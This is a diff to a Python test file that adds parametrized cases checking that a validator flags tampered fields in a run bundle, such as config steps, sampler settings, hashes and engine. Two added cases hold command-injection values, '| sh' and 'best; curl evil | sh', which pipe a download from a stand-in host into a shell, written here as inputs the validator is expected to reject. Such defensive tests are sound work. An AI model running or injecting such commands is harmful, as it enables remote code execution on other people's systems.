@@ -135,6 +135,15 @@ def test_dry_adds_nothing(cli, bundle: Path, tmp_path: Path):
         (lambda raw: raw.update(run_id="other"), "run id"),
         (lambda raw: raw.update(schema_version=99), "schema_version 99"),
         (lambda raw: raw.update(extra=1), "extra"),
+        (lambda raw: raw.update(budget="paper"), "config.steps"),
+        (lambda raw: raw["config"].update(steps=5), "config.steps"),
+        (lambda raw: raw["config"].update({"not a name": 5}), "config is"),
+        (lambda raw: raw["overrides"].update(evil="| sh"), "config.evil"),
+        (lambda raw: raw["sampler"].update(name="best; curl evil | sh"), "sampler.name"),
+        (lambda raw: raw["sampler"].update(knobs={"by": 1}), "sampler.knobs"),
+        (lambda raw: raw["training"].update(hash="0" * 64), "training.hash"),
+        (lambda raw: raw["scoring"].update(hash="0" * 64), "scoring.hash"),
+        (lambda raw: raw.update(engine=0), "engine"),
     ],
 )
 def test_a_claim_that_the_artefacts_do_not_bear_out_is_named(
